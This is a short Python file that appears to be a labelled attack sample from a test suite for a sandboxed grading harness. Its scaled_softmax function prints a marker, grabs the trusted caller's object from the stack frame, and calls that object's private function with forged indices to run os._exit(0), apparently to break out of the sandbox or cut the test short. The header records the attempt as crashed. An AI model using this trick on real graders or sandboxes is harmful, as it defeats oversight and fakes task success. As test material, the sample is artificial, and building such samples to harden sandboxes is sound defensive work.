# attack: It calls functions of the trusted process that nobody gave it.
# family: forged frames and descriptors
# outcome: crashed
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN call_back` to stdout as the function begins
import os
import sys

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN call_back\n")
    worker = sys._getframe(1).f_locals["self"]
    for number in (-1, 0, 2**62):
        worker._function(number)("__import__('os')._exit(0)")
    return x
